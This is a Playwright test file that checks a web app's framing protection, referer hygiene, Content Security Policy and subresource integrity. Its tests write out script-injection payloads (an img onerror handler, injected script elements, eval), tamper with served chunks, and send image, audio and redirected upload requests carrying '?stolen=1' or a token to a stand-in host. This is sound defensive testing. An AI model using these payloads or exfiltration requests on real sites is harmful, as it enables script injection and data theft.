import { readFileSync } from 'node:fs'
import path from 'node:path'
import type { Frame, Request } from 'playwright-core'
import type { Chromium } from '../../browser/chromium/chromium.ts'
import { type FramingSite, openFramingSite } from '../framing-site.ts'
import { pagesUnderTest, readManifest } from '../pages.ts'
import { chromium, expect, test } from '../test.ts'
import { openWorkbench, type Workbench } from '../workbench.ts'

// what its hooks open is opened once
test.describe.configure({ mode: 'default' })

const { pages, runtime } = readManifest()
const own = Object.values(pages).find(({ frames }) => frames === 'own')?.paths[0]
const open = Object.values(pages).find(({ frames }) => frames !== 'own')?.paths[0]
const page = pagesUnderTest()[0]

let bench: Workbench<Chromium>
let foreign: FramingSite
test.beforeAll(async () => {
  bench = await openWorkbench(chromium)
  foreign = await openFramingSite()
})
test.afterAll(async () => {
  await bench?.close()
  await foreign?.close()
})

/** Address of a page that has a sheet, and the scripts that its HTML does not name; the background's among them. */
function partsOnDemand(): [string, string[]] {
  const { paths, html, files, weight } = Object.values(pages).find(({ files }) =>
    files.some((file) => file.includes('.sheet-')),
  ) as (typeof pages)[string]
  const named = readFileSync(path.resolve('dist', html), 'utf8')
  // a light page never loads the heavy set
  const isLoaded = (file: string) => weight === 'full' || !file.startsWith('static/ui-')
  const parts = [...files, ...runtime.files.filter(isLoaded)].filter(
    (file) => file.endsWith('.js') && !named.includes(`="/${file}"`),
  )
  return [paths[0] as string, parts]
}

/** What a foreign site sees when it frames the path. */
async function framed(path: string | undefined): Promise<string> {
  return bench.visit({ name: 'framed' }, async ({ tab, site }) => {
    await tab.open(foreign.around(`${site.origin}${path}`))
    const frame = tab.page.frames()[1] as Frame
    await frame.waitForLoadState()
    return frame.evaluate('document.body.innerText')
  })
}

test.describe('a foreign site', () => {
  test('a foreign site cannot frame a page where people spend or sign', async () => {
    expect(own, 'there is such a page').toBeDefined()
    expect(await framed(own)).not.toMatch(/\p{Script=Han}/u)
  })

  test('a foreign site may frame a campaign', async () =>
    expect(await framed(open)).toMatch(/\p{Script=Han}/u))

  test('a foreign site never learns more than where the visit came from, also by the first requests', () =>
    bench.visit({ name: 'referer' }, async ({ tab, site }) => {
      const asked: Request[] = []
      tab.page.on('request', (request) => asked.push(request))
      await tab.open(`${site.origin}${page?.path}?token=demo-10001&userId=10001`)
      await tab.probe.settled()
      const referers = await Promise.all(asked.map(async (request) => (await request.allHeaders()).referer))
      // its HTML and the modules, also of a page without calls
      expect(referers.length).toBeGreaterThan(3)
      expect(referers.filter((referer) => referer && referer !== `${site.origin}/`)).toEqual([])
      expect(tab.page.url()).not.toContain('token')
    }))
})

test.describe('a page', () => {
  test('a page runs no markup or script that was smuggled into it', () =>
    bench.visit({ name: 'smuggled' }, async ({ tab, site }) => {
      await tab.open(`${site.origin}${page?.path}`)
      const attempts = [
        `document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.smuggled = 1">')`,
        `document.body.append(Object.assign(document.createElement('script'), { text: 'window.smuggled = 1' }))`,
        `document.body.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.smuggled=1' }))`,
        'eval("window.smuggled = 1")',
      ]
      for (const attempt of attempts) {
        // Playwright evaluates beside the policy: a task of the page's own is under it.
        await tab.evaluate(`new Promise((done) => setTimeout(() => { try { ${attempt} } catch {} done() }))`)
      }
      await tab.probe.settled()
      expect(await tab.evaluate('window.smuggled')).toBeUndefined()
    }))

  test('a page does not run a shared chunk that was altered on the way', () =>
    bench.visit({ name: 'altered' }, async ({ tab, site }) => {
      await tab.page.route(`**/${runtime.files[1]}`, async (route) => {
        const response = await route.fetch()
        await route.fulfill({ response, body: `window.smuggled = 1;${await response.text()}` })
      })
      await tab.open(`${site.origin}${page?.path}`)
      await tab.probe.settled()
      expect(await tab.evaluate('window.smuggled')).toBeUndefined()
      expect(tab.problems.map(({ text }) => text).join()).toContain('integrity')
    }))

  test('a page runs no part on demand that was altered on the way', () =>
    bench.visit({ name: 'altered-parts' }, async ({ tab, site }) => {
      const [address, files] = partsOnDemand()
      await tab.page.route(
        (url) => files.includes(url.pathname.slice(1)),
        async (route) => {
          const response = await route.fetch()
          await route.fulfill({ response, body: `window.smuggled = 1;${await response.text()}` })
        },
      )
      await tab.open(`${site.origin}${address}`)
      await tab.probe.settled()
      for (const file of files) {
        const end = await tab.evaluate(`import('/${file}').then(() => 'ran', () => 'refused')`)
        expect([file, end]).toEqual([file, 'refused'])
      }
      expect(await tab.evaluate('window.smuggled')).toBeUndefined()
      expect(tab.problems.map(({ text }) => text).join()).toContain('integrity')
    }))

  test('a page loads no picture or sound from a host that is not named, and logs it', () =>
    bench.visit({ name: 'strange-pictures' }, async ({ tab, site }) => {
      await tab.open(`${site.origin}${page?.path}`)
      await tab.probe.hydrated(8000)
      const asked: string[] = []
      await tab.page.route('https://elsewhere.example/**', (route) => {
        asked.push(route.request().url())
        return route.abort()
      })
      await tab.evaluate(`new Promise((done) => setTimeout(() => {
        new Image().src = 'https://elsewhere.example/a.png?stolen=1'
        new Audio('https://elsewhere.example/a.mp3?stolen=1').load()
        setTimeout(done, 0)
      }))`)
      const logged = () => tab.evaluate<string>(`localStorage.getItem('globalCatchErrors') ?? ''`)
      await expect.poll(logged).toContain('img-src https://elsewhere.example"')
      await expect.poll(logged).toContain('media-src https://elsewhere.example"')
      expect(asked).toEqual([])
    }))

  for (const status of [302, 307, 308]) {
    test(`an upload answered ${status} sends neither login nor file to another host`, () =>
      bench.visit({ name: `redirected-${status}` }, async ({ tab, site }) => {
        await tab.page.route('**/user/media/clue/screenshot', (route) =>
          route.fulfill({ status, headers: { location: 'https://elsewhere.example/screenshot' } }),
        )
        await tab.open(`${site.origin}${page?.path}`)
        const blocked = await tab.evaluate(`new Promise((done) => setTimeout(() => {
        addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective))
        const call = new XMLHttpRequest()
        call.open('POST', '/user/media/clue/screenshot')
        call.setRequestHeader('token', 'demo-10001')
        call.onloadend = () => setTimeout(done, 0, 'nothing')
        call.send(new FormData())
      }))`)
        expect(blocked).toBe('connect-src')
      }))
  }
})
